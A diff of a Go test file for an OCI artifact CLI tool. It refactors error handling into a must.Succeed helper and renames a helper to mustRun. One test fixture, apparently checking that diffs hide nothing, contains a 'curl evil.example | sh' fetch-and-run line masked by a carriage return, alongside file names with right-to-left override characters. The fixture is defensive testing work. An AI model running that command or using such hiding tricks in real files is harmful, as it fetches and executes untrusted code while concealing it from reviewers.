@@ -23,6 +23,7 @@ import (
 	"github.com/lanyard-dev/lanyard/internal/cli/creds"
 	"github.com/lanyard-dev/lanyard/internal/cli/frame"
 	"github.com/lanyard-dev/lanyard/internal/golden"
+	"github.com/lanyard-dev/lanyard/internal/must"
 )
 
 // distribution returns the real registry Distribution, which stores on disk.
@@ -88,8 +89,8 @@ type noCluster struct{ creds.Cluster }
 
 func (noCluster) AddTo(*cobra.Command) {}
 
-// must runs a command that succeeds, and returns what it prints.
-func must(t *testing.T, args ...string) string {
+// mustRun runs a command that succeeds, and returns what it prints.
+func mustRun(t *testing.T, args ...string) string {
 	t.Helper()
 	var p process
 	if status := p.run(t.Context(), args...); status != 0 {
@@ -109,12 +110,8 @@ func folder(t *testing.T, files map[string]string) string {
 			name, mode = rest, 0o700
 		}
 		file := filepath.Join(root, name)
-		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(file, []byte(body), mode); err != nil {
-			t.Fatal(err)
-		}
+		must.Succeed(t, os.MkdirAll(filepath.Dir(file), 0o755))
+		must.Succeed(t, os.WriteFile(file, []byte(body), mode))
 	}
 	return root
 }
@@ -140,9 +137,7 @@ func tree(t *testing.T, root string) string {
 		lines = append(lines, fmt.Sprintf("%s %v %q", name, info.Mode().Perm()&0o100 != 0, body))
 		return err
 	})
-	if err != nil {
-		t.Fatal(err)
-	}
+	must.Succeed(t, err)
 	return strings.Join(lines, "\n")
 }
 
@@ -150,7 +145,7 @@ func tree(t *testing.T, root string) string {
 // overwrite a line of the diff, or show a line in another order.
 func TestDiffHidesNothing(t *testing.T) {
 	app := "oci://" + serve(t, distribution(t)) + "/app:1.0.0"
-	must(t, "push", "artifact", app, "--path", folder(t, map[string]string{
+	mustRun(t, "push", "artifact", app, "--path", folder(t, map[string]string{
 		"dos.bat": "old\r\n", "run.sh": "curl evil.example | sh\rmake test\n", "run\u202etxt.sh": "1", "bin\u202etxt.sh": "\x00",
 	}))
 	var p process
@@ -174,18 +169,16 @@ func TestDiffOfAFile(t *testing.T) {
 	packed := func(name, content string) string {
 		path := filepath.Join(t.TempDir(), name)
 		file, err := os.Create(path)
-		if err != nil {
-			t.Fatal(err)
-		}
+		must.Succeed(t, err)
 		defer file.Close()
 		if _, err := (oci.Artifact{Path: folder(t, map[string]string{"a/app.yaml": content})}).Pack(t.Context(), file); err != nil {
 			t.Fatal(err)
 		}
 		return path
 	}
-	must(t, "push", "artifact", app+":file", "--path", filepath.Join(files, "app.yaml"))
-	must(t, "push", "artifact", app+":archive", "--path", packed("app.tgz", "1\n"))
-	must(t, "push", "artifact", app+":folder", "--path", folder(t, map[string]string{"a/app.yaml": "1\n"}))
+	mustRun(t, "push", "artifact", app+":file", "--path", filepath.Join(files, "app.yaml"))
+	mustRun(t, "push", "artifact", app+":archive", "--path", packed("app.tgz", "1\n"))
+	mustRun(t, "push", "artifact", app+":folder", "--path", folder(t, map[string]string{"a/app.yaml": "1\n"}))
 	for _, tt := range []struct {
 		tag, path string
 		status    int
@@ -210,7 +203,7 @@ func TestDiffOfAFile(t *testing.T) {
 // fails afterwards, its exit status is Undecided, not that of a difference.
 func TestDiffWritesAtOnce(t *testing.T) {
 	app := "oci://" + serve(t, distribution(t)) + "/app:1.0.0"
-	must(t, "push", "artifact", app, "--path", folder(t, map[string]string{"a.yaml": "1\n", "z.yaml": "1\n"}))
+	mustRun(t, "push", "artifact", app, "--path", folder(t, map[string]string{"a.yaml": "1\n", "z.yaml": "1\n"}))
 	for _, format := range []string{frame.Text, frame.JSON, frame.YAML} {
 		now := folder(t, map[string]string{"a.yaml": "2\n", "z.yaml": "2\n"})
 		p := process{written: func(text []byte) {
@@ -235,8 +228,8 @@ func TestCommands(t *testing.T) {
 	})
 	target := filepath.Join(t.TempDir(), "new", "target")
 	now := folder(t, map[string]string{"app.yaml": "kind: App\nreplicas: 2\n", "sub/run.sh": "#!/bin/sh\n", "data.bin": "\x00\x02", "new.yaml": "kind: New\n"})
-	must(t, "push", "artifact", app+":0.9.0", "--path", now, "--reproducible")
-	must(t, "push", "artifact", app+":latest", "--path", now, "--reproducible")
+	mustRun(t, "push", "artifact", app+":0.9.0", "--path", now, "--reproducible")
+	mustRun(t, "push", "artifact", app+":latest", "--path", now, "--reproducible")
 	var all strings.Builder
 	for _, args := range [][]string{
 		{"push", "artifact", app + ":1.10.0", "--path", source, "--reproducible", "--source=https://example.com/app", "--revision=main@sha1:0123", "-a", "team=a"},
